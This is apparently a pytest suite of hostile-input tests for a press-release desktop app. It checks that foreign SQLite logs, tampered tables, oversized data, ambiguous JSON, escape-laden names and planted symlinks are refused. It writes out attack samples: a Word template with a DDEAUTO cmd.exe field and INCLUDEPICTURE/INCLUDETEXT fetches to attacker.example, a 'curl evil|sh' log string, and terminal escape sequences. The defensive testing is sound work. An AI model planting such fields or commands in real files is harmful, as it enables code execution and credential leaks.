"""Attacks with classes of hostile input the earlier rounds did not try: SQLite side files that belong to another
database, project files whose own tables were redefined, projects beyond the release limits, JSON that two
readers read differently, and file names that would drive the terminal through the log.

Each case runs the real `pressdesk` command (or the real store) on real files: the input is read correctly or
refused with one line on stderr (exit 2, no traceback), and a refused file stays byte for byte as it was.
"""

from __future__ import annotations

import json
import logging
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from test_attacks_fresh import digests, refused_in_one_line, run_cli, sample_project, succeeded, tamper

from desktop_app.domain.release import MAX_CELL_CHARS, MAX_SEGMENTS
from desktop_app.logging_setup import setup_logging, shutdown_logging
from desktop_app.services.importing import sample_release
from desktop_app.storage.project_store import ProjectStore

# A writer that commits into its write-ahead log and dies before the log is copied back into the file: the log is
# left beside the file, full of committed pages, as after a crash or a copy taken from a synced folder.
LEAVE_WAL = """
import os, sqlite3, sys
conn = sqlite3.connect(sys.argv[1], isolation_level=None)
conn.execute("pragma journal_mode = wal")
conn.execute("pragma wal_autocheckpoint = 0")
for statement in sys.argv[2:]:
    conn.execute(statement)
os._exit(0)
"""


def wal_of(path: Path) -> Path:
    return Path(f"{path}-wal")


def foreign_wal(source: Path, *sql: str) -> Path:
    """The write-ahead log another database (a copy of `source`) leaves after committing `sql`."""
    other = source.with_name("other-" + source.name)
    shutil.copyfile(source, other)
    subprocess.run([sys.executable, "-c", LEAVE_WAL, str(other), *sql], check=True, timeout=120)
    assert wal_of(other).stat().st_size > 0
    return wal_of(other)


# -- a write-ahead log beside a file that keeps none -------------------------------------------------------------

def test_a_write_ahead_log_of_another_file_beside_a_project_is_refused_and_both_stay(tmp_path: Path) -> None:
    """SQLite reads any `-wal` beside a database as its own: the pages of another project replaced this one's
    (the sample's Chinese headline came out empty) and closing copied them into the file for good. A project never
    keeps a write-ahead log, so one beside it is another file's."""
    project = sample_project(tmp_path / "release.pressdesk")
    wal = foreign_wal(project, "update cells set text = 'another file' where lang = 'zh'")
    shutil.copyfile(wal, wal_of(project))
    before = digests(project, wal_of(project))
    message = refused_in_one_line(run_cli("show", str(project)))
    assert "release.pressdesk-wal" in message
    text = tmp_path / "en.txt"
    text.write_text("A new headline.\n", encoding="utf-8")
    assert "release.pressdesk-wal" in refused_in_one_line(run_cli("import", "--lang", "en", str(project), str(text)))
    assert digests(project, wal_of(project)) == before
    wal_of(project).unlink()
    shown = run_cli("show", "--json", str(project))
    succeeded(shown)
    assert json.loads(shown.stdout)["segments"][0]["zh"]["text"] == sample_release().segments[0].cells["zh"].text


def test_a_write_ahead_log_of_another_glossary_is_refused_and_no_entry_is_lost(data_dir: Path) -> None:
    succeeded(run_cli("glossary", "search", "Mironov"))
    glossary = data_dir / "glossary.sqlite"
    wal = foreign_wal(glossary, "delete from entries")
    shutil.copyfile(wal, wal_of(glossary))
    before = digests(data_dir)
    message = refused_in_one_line(run_cli("glossary", "search", "Mironov"))
    assert "glossary.sqlite-wal" in message
    assert digests(data_dir) == before
    wal_of(glossary).unlink()
    found = run_cli("glossary", "search", "Mironov")
    succeeded(found)
    assert "Mironov" in found.stdout


def test_a_project_kept_in_write_ahead_mode_by_another_tool_still_opens_with_its_log(tmp_path: Path) -> None:
    """A project another SQLite tool switched to write-ahead mode keeps its committed changes in the log: read."""
    project = sample_project(tmp_path / "release.pressdesk")
    subprocess.run([sys.executable, "-c", LEAVE_WAL, str(project), "update meta set value = 'Kept' where key = "
                    "'title'"], check=True, timeout=120)
    shown = run_cli("show", "--json", str(project))
    succeeded(shown)
    assert json.loads(shown.stdout)["title"] == "Kept"


# A writer killed mid-transaction: its rollback journal stays hot beside the file.
CRASH_MID_WRITE = """
import os, sqlite3, sys
conn = sqlite3.connect(sys.argv[1], isolation_level=None)
conn.execute("pragma cache_size = 1")  # changed pages spill into the file before the commit
conn.execute("begin immediate")
for statement in sys.argv[2:]:
    conn.execute(statement)
os._exit(0)
"""


def test_a_journal_of_another_copy_beside_a_project_is_refused_naming_it_and_both_stay(tmp_path: Path) -> None:
    """SQLite rolls back any hot journal beside a database, whichever file it came from: a copy's journal put its
    old pages into the project. The mix is refused as damaged; the message now points at the journal."""
    project = sample_project(tmp_path / "release.pressdesk")
    copy = tmp_path / "copy.pressdesk"
    shutil.copyfile(project, copy)
    text = tmp_path / "en.txt"
    text.write_text("A headline edited after the copy was taken.\n", encoding="utf-8")
    succeeded(run_cli("import", "--lang", "en", str(project), str(text)))
    subprocess.run([sys.executable, "-c", CRASH_MID_WRITE, str(copy), "update cells set text = 'copy ' || text"],
                   check=True, timeout=120)
    journal = Path(f"{project}-journal")
    shutil.copyfile(f"{copy}-journal", journal)
    before = digests(project, journal)
    message = refused_in_one_line(run_cli("show", str(project)))
    assert "release.pressdesk-journal" in message and "damaged" in message
    assert digests(project, journal) == before
    journal.unlink()
    shown = run_cli("show", "--json", str(project))
    succeeded(shown)
    assert json.loads(shown.stdout)["segments"][0]["en"]["text"] == "A headline edited after the copy was taken."


# -- the project's own tables, redefined -------------------------------------------------------------------------

def redefine(path: Path, table: str, edit) -> None:
    """Rebuild `table` of the file at `path` from its own CREATE statement changed by `edit`, keeping its rows."""
    conn = sqlite3.connect(path)
    try:
        sql = conn.execute("select sql from sqlite_master where name = ?", (table,)).fetchone()[0]
        indexes = [s for (s,) in conn.execute("select sql from sqlite_master where type = 'index' and tbl_name = ? "
                                              "and sql is not null", (table,))]
        new = edit(sql).replace(f'CREATE TABLE "{table}"', 'CREATE TABLE "rebuilt"', 1)
        columns = ", ".join(f'"{name}"' for _cid, name, *_rest in conn.execute(f'pragma table_info("{table}")'))
        conn.executescript(f'begin; {new}; insert into rebuilt ({columns}) select {columns} from "{table}"; '
                           f'drop table "{table}"; alter table rebuilt rename to "{table}"; {"; ".join(indexes)}; '
                           "commit;")
    finally:
        conn.close()


def _with_table_constraint(constraint: str):
    return lambda sql: sql.rstrip()[:-1] + f", {constraint})"


REDEFINED_TABLES = {
    # Each revision after a cell's first is dropped without a word: the history is lost while imports succeed.
    "history-kept-once-per-cell": ("revisions", _with_table_constraint("UNIQUE (segment_id, lang) ON CONFLICT "
                                                                       "IGNORE")),
    # "2024" typed into a cell is stored as a number, and the next open refuses the project as damaged.
    "cell-text-as-numbers": ("cells", lambda sql: sql.replace('"text" TEXT', '"text" INTEGER')),
    # Segments whose ids differ in case become one: a save merges them.
    "ids-without-case": ("segments", lambda sql: sql.replace('"id" TEXT PRIMARY KEY', '"id" TEXT PRIMARY KEY '
                                                             "COLLATE NOCASE")),
    "a-check-on-text": ("cells", _with_table_constraint("CHECK (text NOT LIKE '%new headline%')")),
    "a-column-nothing-fills": ("cells", lambda sql: sql.replace('"text" TEXT,', '"text" TEXT, "planted" TEXT '
                                                               "NOT NULL DEFAULT 'x',")),
    # A cell typed by hand (it has no engine) can no longer be saved.
    "engine-required": ("cells", lambda sql: sql.replace('"engine" TEXT', '"engine" TEXT NOT NULL')),
    "history-without-row-ids": ("revisions", lambda sql: sql.replace('"id" INTEGER PRIMARY KEY', '"id" INT '
                                                                     "PRIMARY KEY")),
}


@pytest.mark.parametrize("damage", REDEFINED_TABLES)
def test_a_project_whose_own_tables_were_redefined_is_refused_untouched(damage: str, tmp_path: Path) -> None:
    project = sample_project(tmp_path / "release.pressdesk")
    table, edit = REDEFINED_TABLES[damage]
    redefine(project, table, edit)
    text = tmp_path / "en.txt"
    text.write_text("A new headline.\n\nA new second paragraph.\n", encoding="utf-8")
    before = digests(project)
    for argv in (["import", "--lang", "en", str(project), str(text)], ["show", str(project)]):
        message = refused_in_one_line(run_cli(*argv))
        assert "release.pressdesk is damaged" in message and table in message
    assert digests(project) == before


def test_a_unique_index_planted_on_a_projects_cells_is_refused(tmp_path: Path) -> None:
    """A unique index on a cell's history makes every second edit of a cell fail half-way into the work."""
    project = sample_project(tmp_path / "release.pressdesk")
    tamper(project, "create unique index planted on revisions (segment_id, lang)")
    before = digests(project)
    assert "'planted'" in refused_in_one_line(run_cli("show", str(project)))
    assert digests(project) == before


def test_an_index_of_its_own_a_tool_added_to_a_project_is_harmless_and_it_opens(tmp_path: Path) -> None:
    project = sample_project(tmp_path / "release.pressdesk")
    tamper(project, "create index by_status on cells (status); create table notes (x text)")
    succeeded(run_cli("show", str(project)))


def test_a_project_written_by_hand_in_the_older_format_still_opens(tmp_path: Path) -> None:
    """Unquoted names, other spacing and another spelling of the same column types are the same tables."""
    project = tmp_path / "hand.pressdesk"
    tamper(project, """
        create table meta (key text primary key, value text);
        create table segments (id text primary key, position int, role text);
        create table cells (segment_id text, lang text, text text, status text, origin text, source_lang text,
                            source_text text, engine text, updated_at text, primary key (segment_id, lang));
        create table revisions (id integer primary key, segment_id text, lang text, time text, old_text text,
                                new_text text, status text, origin text, source_lang text, source_text text,
                                engine text);
        create table recovery (id integer primary key, saved_at text, payload text);
        insert into meta values ('app', 'pressdesk'), ('schema_version', '1'), ('title', 'By hand');
        insert into segments values ('s1', 0, 'headline');
        insert into cells values ('s1', 'en', 'Written by hand', 'draft', 'typed', null, null, null, '');
    """)
    shown = run_cli("show", "--json", str(project))
    succeeded(shown)
    assert json.loads(shown.stdout)["segments"][0]["en"]["text"] == "Written by hand"


@pytest.mark.parametrize("store", ["glossary", "memory"])
def test_a_glossary_or_memory_whose_own_tables_were_redefined_is_refused_untouched(store: str,
                                                                                  data_dir: Path) -> None:
    succeeded(run_cli("glossary", "search", "Mironov"))
    succeeded(run_cli("tm", "lookup", "--from", "en", "--to", "ru", "hello"))
    database, table = {"glossary": ("glossary.sqlite", "tenures"), "memory": ("memory.sqlite", "units")}[store]
    redefine(data_dir / database, table, _with_table_constraint("CHECK (rowid > 0)"))
    before = digests(data_dir)
    argv = (["glossary", "search", "Mironov"] if store == "glossary"
            else ["tm", "lookup", "--from", "en", "--to", "ru", "hello"])
    message = refused_in_one_line(run_cli(*argv))
    assert database in message and table in message
    assert digests(data_dir) == before


# -- projects beyond the limits of a release ---------------------------------------------------------------------

BEYOND_LIMITS = {
    # A million segments took 24 s and 1.1 GB to show; the GUI could not save them back.
    "too-many-segments": "insert into segments (id, position, role, comment) with recursive n(value) as (select 1 "
                         f"union all select value + 1 from n where value < {MAX_SEGMENTS}) select 'x' || value, "
                         "100 + value, 'body', '' from n",
    "a-cell-too-long": f"update cells set text = replace(hex(zeroblob({MAX_CELL_CHARS // 2 + 1})), '00', 'ab') "
                       "where rowid = 1",
    "a-comment-too-long": f"update segments set comment = hex(zeroblob({MAX_CELL_CHARS // 2 + 1})) where rowid = 1",
    "a-title-too-long": f"update meta set value = hex(zeroblob({MAX_CELL_CHARS // 2 + 1})) where key = 'title'",
    "a-revision-too-long": f"update revisions set old_text = hex(zeroblob({MAX_CELL_CHARS // 2 + 1})) "
                           "where rowid = 1",
    "an-engine-too-long": f"update cells set engine = hex(zeroblob({MAX_CELL_CHARS // 2 + 1})) where rowid = 1",
    "a-segment-id-too-long": "update segments set id = hex(zeroblob(1000)) where rowid = 1",
}


@pytest.mark.parametrize("damage", BEYOND_LIMITS)
def test_a_project_beyond_the_limits_of_a_release_is_refused_untouched(damage: str, tmp_path: Path) -> None:
    project = sample_project(tmp_path / "release.pressdesk")
    tamper(project, BEYOND_LIMITS[damage])
    before = digests(project)
    message = refused_in_one_line(run_cli("show", str(project)))
    assert "release.pressdesk" in message and "at most" in message
    assert digests(project) == before


def test_an_autosave_beyond_the_limits_of_a_release_is_not_offered(tmp_path: Path) -> None:
    project = sample_project(tmp_path / "release.pressdesk")
    with ProjectStore.open(project) as store:
        release = store.load()
        segment = release.segments[0]
        store.write_recovery(type(release)(release.title, release.date, [segment] * (MAX_SEGMENTS + 1)))
    with ProjectStore.open(project) as store:
        assert store.read_recovery() is None
        assert len(store.load().segments) == len(sample_release().segments)


# -- JSON read differently by different readers ------------------------------------------------------------------

TWO_READINGS = {
    # Python keeps the last of two equal keys, other readers the first: the text reviewed is not the text imported.
    "segments-twice": '{"title": "T", "segments": [{"en": "reviewed"}], "segments": [{"en": "imported"}]}',
    "a-cell-twice": '{"title": "T", "segments": [{"en": "reviewed", "en": "imported"}]}',
    "title-twice": '{"title": "Reviewed", "title": "Imported", "segments": [{"en": "a"}]}',
    "not-a-number": '{"title": "T", "segments": [{"en": "a", "status": {"en": NaN}}]}',
    "infinity": '{"title": "T", "segments": [{"en": "a"}], "version": -Infinity}',
}


@pytest.mark.parametrize("case", TWO_READINGS)
def test_a_release_json_that_readers_read_differently_is_refused_and_creates_nothing(case: str,
                                                                                    tmp_path: Path) -> None:
    source = tmp_path / "release.json"
    source.write_text(TWO_READINGS[case], encoding="utf-8")
    project = tmp_path / "new.pressdesk"
    message = refused_in_one_line(run_cli("new", str(project), "--from-json", str(source)))
    assert "release.json" in message
    assert not project.exists()
    existing = sample_project(tmp_path / "existing.pressdesk")
    before = digests(existing)
    refused_in_one_line(run_cli("import", "--lang", "all", str(existing), str(source)))
    assert digests(existing) == before


def test_a_release_json_with_a_key_once_per_object_still_reads(tmp_path: Path) -> None:
    source = tmp_path / "release.json"
    source.write_text('{"title": "T", "segments": [{"en": "one"}, {"en": "two"}]}', encoding="utf-8")
    succeeded(run_cli("new", str(tmp_path / "new.pressdesk"), "--from-json", str(source)))


# -- names that would drive the terminal or forge lines through the log ------------------------------------------

def test_warnings_about_a_folder_named_with_escapes_print_it_escaped_on_one_line(tmp_path: Path) -> None:
    """A data folder named with a colour escape and a line feed was printed raw by the unreadable-settings
    warning: the terminal obeyed the escape and a forged "ERROR" line followed."""
    data = tmp_path / "data\x1b[31mred\x1b[0m\nERROR forged"
    data.mkdir()
    (data / "settings.json").write_text("{bad", encoding="utf-8")
    project = sample_project(tmp_path / "release.pressdesk")
    result = subprocess.run([sys.executable, "-m", "desktop_app", "--data-dir", str(data), "qa", "--no-spelling",
                             str(project)], capture_output=True, text=True, timeout=300)
    assert result.returncode == 1, result.stderr  # the sample's one forbidden form
    assert "Traceback" not in result.stderr
    assert "\x1b" not in result.stderr
    assert not any(line.startswith("ERROR forged") for line in result.stderr.splitlines())
    assert "\\x1b[31mred" in result.stderr


def test_the_log_file_keeps_one_line_per_message_whatever_the_names_it_quotes(tmp_path: Path) -> None:
    log_file = setup_logging(tmp_path)
    try:
        logging.getLogger("desktop_app.test").warning("opened %s", "a\n2026-01-01 00:00:00 ERROR forged\x1b]0;x\x07")
    finally:
        shutdown_logging()
    lines = log_file.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 1
    assert "opened a\\x0a2026-01-01 00:00:00 ERROR forged\\x1b]0;x\\x07" in lines[0]


# -- the recovery folder ---------------------------------------------------------------------------------------

def test_a_link_in_the_recovery_folder_to_a_project_elsewhere_is_not_opened_as_unsaved_work(
        qtbot, data_dir: Path, tmp_path: Path) -> None:
    """At every start the window opens the untitled work a crash left in its recovery folder. A link planted there
    (a shared or synced data folder) opened a project the user never chose and offered its autosave back."""
    from ui_support import make_context

    from desktop_app.ui.main_window import MainWindow

    elsewhere = sample_project(tmp_path / "elsewhere.pressdesk")
    with ProjectStore.open(elsewhere) as store:
        release = store.load()
        store.write_recovery(type(release)("Planted", release.date, release.segments))
    context = make_context(data_dir)
    (context.recovery_dir / "untitled-planted.pressdesk").symlink_to(elsewhere)
    before = digests(elsewhere)
    win = MainWindow(context)
    qtbot.addWidget(win)
    try:
        assert win.recovered_untitled() == []
        win.open_startup_document(None)
        assert win.document.path is None or win.document.path.resolve() != elsewhere.resolve()
    finally:
        context.tasks.wait_idle()
        win.close()
        context.close()
    assert digests(elsewhere) == before


# -- a house template that fetches or runs something when the exported document opens ------------------------

_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_FETCHING = {
    "attachedTemplate": f"{_R}/attachedTemplate",
    "image": f"{_R}/image",
    "subDocument": f"{_R}/subDocument",
}
# Fields Word runs or fetches for: DDEAUTO starts a program, INCLUDEPICTURE/INCLUDETEXT fetch a file (and leak the
# reader's Windows credentials to a remote share). The instruction is split over runs, as Word itself writes it.
_FIELDS = ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
           'INCLUDEPICTURE "http://attacker.example/p.png" \\d',
           'INCLUDETEXT "\\\\\\\\attacker.example\\\\share\\\\t.docx"']


def _letterhead_with_references(path: Path) -> Path:
    """A house template whose letterhead, once exported, would reach out of the document when a reader opens it:
    a remote template, a linked picture, a remote sub-document, fields that run a program or fetch a file; and
    one website link, which only a reader's click follows and which stays."""
    import docx
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import parse_xml

    doc = docx.Document()
    header = doc.sections[0].header
    header.paragraphs[0].text = "ACME Press Office"
    part = header.part
    image = part.rels.get_or_add_ext_rel(_FETCHING["image"], "http://attacker.example/beacon.png")
    subdoc = part.rels.get_or_add_ext_rel(_FETCHING["subDocument"], "file://attacker.example/share/s.docx")
    link = part.rels.get_or_add_ext_rel(RT.HYPERLINK, "https://press.example.org/")
    ns = ('xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="' + _R + '" '
          'xmlns:v="urn:schemas-microsoft-com:vml"')
    runs = "".join(
        f'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">{f[:5]}</w:instrText>'
        f'</w:r><w:r><w:instrText xml:space="preserve">{f[5:]}</w:instrText></w:r><w:r><w:fldChar '
        f'w:fldCharType="separate"/></w:r><w:r><w:t>result {i}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
        for i, f in enumerate(_FIELDS))
    for xml in (f'<w:p {ns}><w:r><w:pict><v:shape><v:imagedata r:id="{image}"/></v:shape></w:pict></w:r></w:p>',
                f'<w:p {ns}>{runs}</w:p>',
                f'<w:p {ns}><w:fldSimple w:instr=\'INCLUDEPICTURE "http://attacker.example/q.png"\'><w:r><w:t>simple'
                '</w:t></w:r></w:fldSimple></w:p>',
                f'<w:subDoc {ns} r:id="{subdoc}"/>',
                f'<w:p {ns}><w:hyperlink r:id="{link}"><w:r><w:t>press.example.org</w:t></w:r></w:hyperlink></w:p>'):
        header._element.append(parse_xml(xml))
    settings = doc.part.part_related_by(RT.SETTINGS)
    remote = settings.rels.get_or_add_ext_rel(_FETCHING["attachedTemplate"], "file://attacker.example/t.dotm")
    settings.element.insert(0, parse_xml(f'<w:attachedTemplate {ns} r:id="{remote}"/>'))
    doc.save(path)
    return path


@pytest.mark.parametrize("layout", [["--lang", "en"], ["--layout", "table"], ["--layout", "review"]])
def test_an_export_keeps_nothing_of_a_template_that_fetches_or_runs_when_opened(layout: list[str],
                                                                              tmp_path: Path) -> None:
    import zipfile

    import docx
    from lxml import etree

    template = _letterhead_with_references(tmp_path / "letterhead.docx")
    project = sample_project(tmp_path / "release.pressdesk")
    out = tmp_path / "out.docx"
    succeeded(run_cli("export", str(project), *layout, "--template", str(template), "-o", str(out)))
    external, instructions = [], []
    with zipfile.ZipFile(out) as zf:
        for name in zf.namelist():
            if name.endswith(".rels"):
                for rel in etree.fromstring(zf.read(name)):
                    if rel.get("TargetMode") == "External":
                        external.append((rel.get("Type").rsplit("/", 1)[-1], rel.get("Target")))
            elif name.endswith(".xml"):
                root = etree.fromstring(zf.read(name))
                instructions += ["".join(t.text or "" for t in root.iter(f"{{{_W}}}instrText"))]
                instructions += [el.get(f"{{{_W}}}instr") for el in root.iter(f"{{{_W}}}fldSimple")]
                assert not list(root.iter(f"{{{_W}}}attachedTemplate", f"{{{_W}}}subDoc")), name
    assert external == [("hyperlink", "https://press.example.org/")]
    fields = " ".join(i for i in instructions if i)
    for word in ("DDE", "INCLUDEPICTURE", "INCLUDETEXT", "attacker"):
        assert word not in fields
    header_text = "\n".join(p.text for p in docx.Document(str(out)).sections[0].header.paragraphs)
    assert "ACME Press Office" in header_text and "press.example.org" in header_text



# -- what stands under a project's or a setting's name ----------------------------------------------------------

@pytest.mark.parametrize("kind", ["folder", "pipe", "device"])
def test_a_project_name_that_is_no_file_is_told_for_what_it_is(kind: str, tmp_path: Path) -> None:
    """A folder, a named pipe or a device under a project's name was reported as "no such project file"."""
    import os

    project = tmp_path / "release.pressdesk"
    if kind == "folder":
        project.mkdir()
    elif kind == "pipe":
        os.mkfifo(project)
    else:
        project.symlink_to(os.devnull)
    message = refused_in_one_line(run_cli("show", str(project)))
    assert "no such" not in message
    assert ("is a folder" if kind == "folder" else "not a regular file") in message


def test_settings_naming_thousands_of_recent_projects_keep_the_latest_few(data_dir: Path) -> None:
    """The recent-files menu is built from this list each time it opens: a settings file naming 20,000 projects
    (any program can write it) filled the menu with 20,000 entries."""
    from desktop_app.settings import RECENT_FILES, Settings

    names = [f"/releases/{i}.pressdesk" for i in range(20_000)]
    (data_dir / "settings.json").write_text(json.dumps({"recent_files": names}), encoding="utf-8")
    assert Settings.load(data_dir).recent_files == names[:RECENT_FILES]


# -- the note of a lock another process holds ---------------------------------------------------------------------

HOLD_LOCK = """
import fcntl, os, sys
fd = os.open(sys.argv[1], os.O_RDWR)
fcntl.flock(fd, fcntl.LOCK_EX)
print("locked", flush=True)
sys.stdin.read()
"""

JUNK_NOTES = {
    "time-a-number": '{"pid": 12, "host": "desk", "time": 5}',
    "pid-a-list": '{"pid": [1], "host": "desk", "time": "2026-01-01T00:00:00"}',
    "host-null": '{"pid": 1, "host": null}',
    "user-an-object": '{"pid": 1, "host": "desk", "user": {"x": 1}}',
    "pid-a-flag": '{"pid": true, "host": "desk"}',
}


@pytest.mark.skipif(sys.platform.startswith("win"), reason="flock")
@pytest.mark.parametrize("note", JUNK_NOTES)
def test_a_held_lock_whose_note_holds_values_of_the_wrong_type_is_one_line(note: str, tmp_path: Path) -> None:
    """The note beside a held lock says who holds it; a time that is a number ended the refusal in a traceback."""
    project = sample_project(tmp_path / "release.pressdesk")
    lock = tmp_path / "release.pressdesk.lock"
    lock.write_text(JUNK_NOTES[note], encoding="utf-8")
    text = tmp_path / "en.txt"
    text.write_text("A new headline.\n", encoding="utf-8")
    before = digests(project)
    holder = subprocess.Popen([sys.executable, "-c", HOLD_LOCK, str(lock)], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "locked"
        message = refused_in_one_line(run_cli("import", "--lang", "en", str(project), str(text)))
    finally:
        holder.communicate("", timeout=60)
    assert "release.pressdesk" in message
    assert digests(project) == before


@pytest.mark.skipif(sys.platform.startswith("win"), reason="flock")
def test_a_held_lock_names_its_holder_with_controls_escaped(tmp_path: Path) -> None:
    project = sample_project(tmp_path / "release.pressdesk")
    lock = tmp_path / "release.pressdesk.lock"
    lock.write_text(json.dumps({"pid": 1, "host": "desk\u202eevil", "user": "ann\n\x1b[2J",
                                "time": "2026-01-01T00:00:00"}), encoding="utf-8")
    holder = subprocess.Popen([sys.executable, "-c", HOLD_LOCK, str(lock)], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "locked"
        with pytest.raises(Exception) as refused:
            from desktop_app.storage.project_lock import ProjectLock

            ProjectLock(project).acquire()
    finally:
        holder.communicate("", timeout=60)
    message = str(refused.value)
    assert "\x1b" not in message and "\u202e" not in message and "\n" not in message
    assert "ann" in message and "desk" in message


# -- the log file, planted ------------------------------------------------------------------------------------

@pytest.mark.parametrize("planted", ["file-link", "folder-link"])
def test_a_link_planted_as_the_log_file_or_folder_is_never_written_through(planted: str, tmp_path: Path) -> None:
    """The window appends every log line to logs/pressdesk.log in the data folder. A link planted there (a data
    folder on a share) made it append to any file the user can write, e.g. a shell start-up file, with lines that
    quote file names other people chose."""
    data = tmp_path / "data"
    (data / "elsewhere").mkdir(parents=True)
    victim = tmp_path / "victim.sh"
    victim.write_text("echo hello\n", encoding="utf-8")
    if planted == "file-link":
        (data / "logs").mkdir()
        (data / "logs" / "pressdesk.log").symlink_to(victim)
    else:
        (data / "logs").symlink_to(tmp_path)
        victim = tmp_path / "pressdesk.log"
        victim.write_text("a file of the folder the link leads to\n", encoding="utf-8")
    before = victim.read_bytes()
    setup_logging(data)
    try:
        logging.getLogger("desktop_app.test").warning("imported /tmp/a;curl evil|sh;.docx")
    finally:
        shutdown_logging()
    assert victim.read_bytes() == before


# -- messages quoting values of any length ------------------------------------------------------------------------

@pytest.mark.parametrize("argv", [
    ["name", "钱" * 40_000],
    ["packs", "remove", "x" * 100_000],
    ["qa", "--lang", "x" * 100_000, "release.pressdesk"],
    ["tm", "lookup", "--from", "en", "--to", "ru", "-n", "9" * 100_000, "hello"],
], ids=["name", "packs-remove", "qa-lang", "tm-lookup-n"])
def test_a_refusal_quoting_a_huge_argument_stays_a_short_line(argv: list[str], tmp_path: Path) -> None:
    """Refusals repeated the argument they refused whole: 100,000 characters on the one line of stderr."""
    message = refused_in_one_line(run_cli(*argv))
    assert len(message) < 1000, len(message)


# -- names echoed on standard output --------------------------------------------------------------------------

_NASTY = "re\nlease\x1b[31m\u202e\x9b2J"


def _controls_in(text: str) -> list[str]:
    """The characters of `text` that a terminal obeys or that hide or reorder text: all but tab and line feed."""
    return [c for c in text if (ord(c) < 0x20 and c not in "\t\n") or 0x7f <= ord(c) <= 0x9f or c == "\u202e"]


def test_every_line_a_command_prints_about_a_project_named_with_controls_is_escaped(tmp_path: Path) -> None:
    """`tm add-project` printed the project's name raw: its line feed forged a line and its escapes drove the
    terminal. Every command's output about such a project, and a memory file so named, holds no control."""
    project = sample_project(tmp_path / f"{_NASTY}.pressdesk")
    tmx = tmp_path / f"pairs{_NASTY}.tmx"
    tmx.write_text('<?xml version="1.0" encoding="UTF-8"?><tmx version="1.4"><header srclang="en" datatype="plaintext" '
                   'segtype="sentence" adminlang="en" creationtool="t" creationtoolversion="1" o-tmf="t"/><body><tu>'
                   '<tuv xml:lang="en"><seg>The talks went well.</seg></tuv><tuv xml:lang="ru"><seg>Переговоры прошли '
                   'хорошо.</seg></tuv></tu></body></tmx>', encoding="utf-8")
    outputs = []
    for argv in (["tm", "add-project", str(project)], ["tm", "import", str(tmx)], ["show", str(project)],
                 ["export", str(project), "--lang", "en", "-o", str(tmp_path / f"out{_NASTY}.docx")],
                 ["qa", "--no-spelling", str(project)]):
        result = run_cli(*argv)
        assert result.returncode in (0, 1), (argv, result.stderr)
        outputs.append(result.stdout + result.stderr)
    for argv, output in zip(("add-project", "import", "show", "export", "qa"), outputs, strict=True):
        assert _controls_in(output) == [], argv
    assert "re\\x0alease" in outputs[0]


def test_a_segment_id_with_controls_is_shown_escaped(tmp_path: Path) -> None:
    project = sample_project(tmp_path / "release.pressdesk")
    tamper(project, "update cells set segment_id = 'id\x1b]0;owned\x07' where segment_id = (select id from "
                    "segments where rowid = 1); update segments set id = 'id\x1b]0;owned\x07' where rowid = 1")
    result = run_cli("show", str(project))
    succeeded(result)
    assert _controls_in(result.stdout) == []


def test_the_window_names_a_lock_holder_and_a_project_with_controls_escaped(qtbot, data_dir: Path,
                                                                          tmp_path: Path) -> None:
    """The "already open" dialog quotes the note another computer wrote beside the project: a right-to-left
    override there turned the rest of the sentence around, a line feed added lines of its own."""
    from ui_support import make_context

    from desktop_app.storage.project_lock import LockHolder, ProjectLockedError
    from desktop_app.ui.main_window import MainWindow

    context = make_context(data_dir)
    win = MainWindow(context)
    qtbot.addWidget(win)
    try:
        holder = LockHolder(4242, "desk\u202eevil", "ann\nroot", "2026-01-01T00:00:00")
        text = win.lock_reason(ProjectLockedError(tmp_path / "re\u202elease\n.pressdesk", holder))
    finally:
        context.tasks.wait_idle()
        win.close()
        context.close()
    assert _controls_in(text) == [] and "\n" not in text
    assert "ann" in text and "desk\\u202eevil" in text and "re\\u202elease" in text


@pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0, reason="giving a file to another user")
def test_a_project_of_another_user_in_the_recovery_folder_is_not_opened_as_unsaved_work(
        qtbot, data_dir: Path, tmp_path: Path) -> None:
    """A data folder others can write to (a share): a project another user left in its recovery folder is theirs,
    not the user's own unsaved work, and is not opened at start."""
    from ui_support import make_context

    from desktop_app.ui.main_window import MainWindow

    context = make_context(data_dir)
    planted = sample_project(context.recovery_dir / "untitled-planted.pressdesk")
    os.chown(planted, 4242, 4242)
    win = MainWindow(context)
    qtbot.addWidget(win)
    try:
        assert win.recovered_untitled() == []
    finally:
        context.tasks.wait_idle()
        win.close()
        context.close()


@pytest.mark.slow
@pytest.mark.skipif(not (shutil.which("soffice") and shutil.which("pdftotext")), reason="needs LibreOffice, poppler")
def test_an_export_from_a_template_stripped_of_outside_references_still_opens_in_libreoffice(tmp_path: Path) -> None:
    """What is taken out of the letterhead (fields' instructions, linked pictures, the remote template) must leave
    a document a word processor opens: LibreOffice renders it with the letterhead's text and the release."""
    template = _letterhead_with_references(tmp_path / "letterhead.docx")
    project = sample_project(tmp_path / "release.pressdesk")
    out = tmp_path / "out.docx"
    succeeded(run_cli("export", str(project), "--lang", "en", "--template", str(template), "-o", str(out)))
    subprocess.run([shutil.which("soffice") or "soffice", f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}",
                    "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(out)],
                   check=True, capture_output=True, timeout=600)
    text = subprocess.run(["pdftotext", "-enc", "UTF-8", str(tmp_path / "out.pdf"), "-"], capture_output=True,
                          text=True, check=True, timeout=120).stdout
    assert "ACME Press Office" in text and "press.example.org" in text
    assert "Roundtable" in text
